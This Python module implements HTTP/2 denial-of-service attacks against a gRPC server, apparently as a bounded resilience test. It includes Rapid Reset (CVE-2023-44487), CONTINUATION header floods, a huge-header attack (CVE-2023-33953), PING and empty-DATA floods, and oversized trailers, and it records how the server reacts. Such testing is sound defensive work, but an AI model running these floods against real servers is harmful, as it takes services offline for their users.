"""Known attacks on HTTP/2 servers, bounded in what they send, over a plain socket."""

import dataclasses
import json
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
GENERATE = "/nibble.v1.GenerationService/Generate"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def request_headers(path=GENERATE, content_type="application/grpc", extra=()):
    return hpack.Encoder().encode([
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
        ("content-type", content_type), ("te", "trailers"), *extra], huffman=False)


@dataclasses.dataclass
class Outcome:
    sent: int  # bytes, streams or frames: what the attack counts
    cut: bool  # the server closed the connection
    goaway: int | None  # the error code of its GOAWAY


class Connection:
    """One HTTP/2 connection that reads only to learn its own end."""

    def __init__(self, address, reads=True):
        host, port = address.rsplit(":", 1)
        self.socket = socket.socket()
        self.socket.settimeout(10)
        if not reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # or the kernel reads for us
        self.socket.connect((host, int(port)))
        self.cut, self.goaway, self.received = False, None, b""
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        if reads:
            self.reader.start()

    def _read(self):
        try:
            while data := self.socket.recv(1 << 16):
                self.received += data
                self._take_frames()
        except TimeoutError:
            return
        except OSError:
            pass
        self.cut = True

    def _take_frames(self):
        while len(self.received) >= 9:
            length, kind = int.from_bytes(self.received[:3], "big"), self.received[3]
            if len(self.received) < 9 + length:
                return
            payload, self.received = self.received[9:9 + length], self.received[9 + length:]
            if kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")

    def send(self, data):
        """Whether the server still took it."""
        try:
            self.socket.sendall(data)
        except TimeoutError:  # it does not read: an attack that sends more would wait for ever
            return False
        except OSError:
            self.cut = True
        return not self.cut

    def end(self, sent, settle=3.0):
        """The outcome, once the server has had `settle` seconds to react."""
        deadline = time.monotonic() + settle
        while not self.cut and time.monotonic() < deadline:
            time.sleep(0.01)
        outcome = Outcome(sent, self.cut, self.goaway)
        self.socket.close()
        return outcome


def huge_header(address, megabytes):
    """CVE-2023-33953: one header value claims 400 MB and is sent piece by piece, without an end."""
    claimed = 400_000_000
    length, rest = b"\x7f", claimed - 127
    while rest >= 128:
        length, rest = length + bytes((rest % 128 + 128,)), rest // 128
    length += bytes((rest,))
    connection = Connection(address)
    connection.send(frame(HEADERS, 0, 1, request_headers() + b"\x00\x03x-a" + length))
    sent = 0
    while sent < megabytes << 20 and connection.send(frame(CONTINUATION, 0, 1, b"a" * 16384)):
        sent += 16384
    return connection.end(sent)


def endless_headers(address, megabytes):
    """CONTINUATION frames of small headers, never END_HEADERS."""
    piece = b"".join(hpack.Encoder().encode([(f"x-{i:04}", "v" * 24)], huffman=False) for i in range(400))[:16000]
    connection = Connection(address)
    connection.send(frame(HEADERS, 0, 1, request_headers()))
    sent = 0
    while sent < megabytes << 20 and connection.send(frame(CONTINUATION, 0, 1, piece)):
        sent += len(piece)
    return connection.end(sent)


def rapid_reset(address, streams):
    """CVE-2023-44487: opens a stream and resets it at once, again and again."""
    headers, sent, connection = request_headers(), 0, Connection(address)
    cancel = struct.pack(">I", 8)
    while sent < streams:
        batch = range(sent, min(sent + 50, streams))
        if not connection.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, headers)
                                        + frame(RST_STREAM, 0, 2 * i + 1, cancel) for i in batch)):
            break
        sent += len(batch)
    return connection.end(sent)


def ping_flood(address, pings):
    """Pings whose answers are never read: they pile up in the server."""
    sent, connection = 0, Connection(address, reads=False)
    while sent < pings and connection.send(frame(PING, 0, 0, bytes(8)) * 1000):
        sent += 1000
    connection.reader.start()
    return connection.end(sent)


def empty_data(address, frames):
    """DATA frames without data, without an end."""
    sent, connection = 0, Connection(address)
    connection.send(frame(HEADERS, END_HEADERS, 1, request_headers()))
    while sent < frames and connection.send(frame(DATA, 0, 1) * 100):
        sent += 100
    return connection.end(sent)


def odd_headers(address, extra, where):
    """One request with headers, or trailers, that gRPC treats apart or that are too large.

    CVE-2023-1428, CVE-2023-32731, CVE-2023-32732.
    """
    connection = Connection(address)
    if where == "headers":
        connection.send(frames_of(request_headers(extra=extra), END_STREAM))
    else:
        connection.send(frames_of(request_headers(), 0) + frame(DATA, 0, 1, bytes(5))
                        + frames_of(hpack.Encoder().encode(extra, huffman=False), END_STREAM))
    return connection.end(1, settle=0.05)


def frames_of(block, flags):
    """HEADERS, and CONTINUATION for what does not fit into a frame."""
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    return b"".join(frame(kind, (flags if i == 0 else 0) | (END_HEADERS if i == len(pieces) - 1 else 0), 1, piece)
                    for i, (kind, piece) in enumerate(zip(kinds, pieces)))


def idle_connections(address, count):
    """Sockets that were opened and say nothing; the caller closes them."""
    host, port = address.rsplit(":", 1)
    return [socket.create_connection((host, int(port)), timeout=10) for _ in range(count)]


ATTACKS = {attack.__name__: attack for attack in (huge_header, endless_headers, rapid_reset, ping_flood, empty_data)}


def main(name, address, amount, times):
    """Repeats one attack and prints the outcomes, from a process of its own."""
    for _ in range(int(times)):
        print(json.dumps(dataclasses.asdict(ATTACKS[name](address, int(amount)))), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
